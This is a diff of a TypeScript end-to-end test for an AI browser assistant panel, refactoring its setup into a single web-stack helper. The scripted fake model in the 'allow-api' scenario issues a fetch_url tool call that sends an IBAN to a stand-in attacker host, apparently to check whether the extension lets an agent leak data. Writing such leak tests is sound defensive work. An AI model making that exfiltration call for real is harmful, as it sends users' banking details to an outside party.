@@ -9,11 +9,10 @@ import https from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
-import { startModelServer, type ModelServer } from '../support/model-server/model-server.mjs';
-import { startCorsProxy, type CorsProxy } from '../support/cors-proxy';
+import type { CorsProxy } from '../support/cors-proxy';
 import { typstCertificate } from '../support/tls';
-import { launchWebBrowser, type WebBrowser } from '../support/web-browser';
-import { startWebPages, type WebPages } from '../support/web-pages';
+import type { WebBrowser } from '../support/web-browser';
+import { startWebStack, type WebStack } from '../support/web-stack';
 import { panelWithModel, sendFromComposer } from '../support/panel-page';
 
 const HOST = 'shop.example';
@@ -34,9 +33,8 @@ interface Received {
   body: string;
 }
 
-let pages: WebPages;
+let stack: WebStack;
 let browser: WebBrowser;
-let models: ModelServer;
 let proxy: CorsProxy;
 let panel: Page;
 let api: https.Server;
@@ -72,61 +70,62 @@ beforeAll(async () => {
   });
   await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
   const apiPort = (api.address() as AddressInfo).port;
-  pages = await startWebPages({ [HOST]: { '/': PAGE } });
-  models = await startModelServer({
-    scenario: {
-      name: 'allow-api',
-      turns: [],
-      policy: (body: SentBody) => {
-        const answered = body.messages?.some((message) => message.role === 'tool');
-        if ((body.tools ?? []).length === 0 || answered) return { steps: [{ text: 'Done.' }] };
-        if (lastUserText(body).includes('price API'))
-          return {
-            steps: [
-              {
-                toolCall: {
-                  id: 'leak-1',
-                  name: 'fetch_url',
-                  arguments: { url: `https://${ATTACKER}/?iban=${IBAN}` },
+  stack = await startWebStack(
+    { [HOST]: { '/': PAGE } },
+    {
+      models: {
+        scenario: {
+          name: 'allow-api',
+          turns: [],
+          policy: (body: SentBody) => {
+            const answered = body.messages?.some((message) => message.role === 'tool');
+            if ((body.tools ?? []).length === 0 || answered) return { steps: [{ text: 'Done.' }] };
+            if (lastUserText(body).includes('price API'))
+              return {
+                steps: [
+                  {
+                    toolCall: {
+                      id: 'leak-1',
+                      name: 'fetch_url',
+                      arguments: { url: `https://${ATTACKER}/?iban=${IBAN}` },
+                    },
+                  },
+                ],
+              };
+            return {
+              steps: [
+                {
+                  toolCall: {
+                    id: `order-${Date.now()}`,
+                    name: 'fetch_url',
+                    arguments: {
+                      url: `https://${API}/orders`,
+                      method: 'POST',
+                      body: JSON.stringify(ORDER),
+                    },
+                  },
                 },
-              },
-            ],
-          };
-        return {
-          steps: [
-            {
-              toolCall: {
-                id: `order-${Date.now()}`,
-                name: 'fetch_url',
-                arguments: {
-                  url: `https://${API}/orders`,
-                  method: 'POST',
-                  body: JSON.stringify(ORDER),
-                },
-              },
-            },
-          ],
-        };
+              ],
+            };
+          },
+        },
+      },
+      browser: {
+        hostRules: [
+          `MAP ${ATTACKER} 127.0.0.1:${apiPort}`,
+          `MAP ${API} 127.0.0.1:${apiPort}`,
+          'EXCLUDE 127.0.0.1',
+        ],
       },
     },
-  });
-  proxy = await startCorsProxy(models.port);
-  browser = await launchWebBrowser(pages, {
-    hostRules: [
-      `MAP ${ATTACKER} 127.0.0.1:${apiPort}`,
-      `MAP ${API} 127.0.0.1:${apiPort}`,
-      'EXCLUDE 127.0.0.1',
-    ],
-  });
+  );
+  ({ proxy, browser } = stack);
   const page = await browser.open(HOST);
   panel = await panelWithModel(browser, page, proxy.baseUrl, 'allow-api');
 }, 120_000);
 
 afterAll(async () => {
-  await browser?.close();
-  await proxy?.close();
-  await models?.close();
-  await pages?.close();
+  await stack?.close();
   await new Promise<void>((resolve) => (api ? api.close(() => resolve()) : resolve()));
 });
 
